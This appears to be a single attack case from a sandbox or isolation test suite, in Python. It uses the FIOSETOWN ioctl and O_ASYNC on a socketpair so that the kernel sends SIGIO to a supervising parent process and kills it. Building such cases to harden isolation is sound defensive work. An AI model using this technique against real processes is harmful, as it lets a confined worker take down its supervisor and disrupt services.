"""Makes the worker the owner of its own socket (FIOSETOWN); the kernel's SIGIO ends who does not expect it."""

import fcntl
import os
import socket


def attack(world):
    near, far = socket.socketpair()
    fcntl.ioctl(near, 0x8901, world["parent"].to_bytes(4, "little"))
    fcntl.fcntl(near, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    return far.send(b"x")
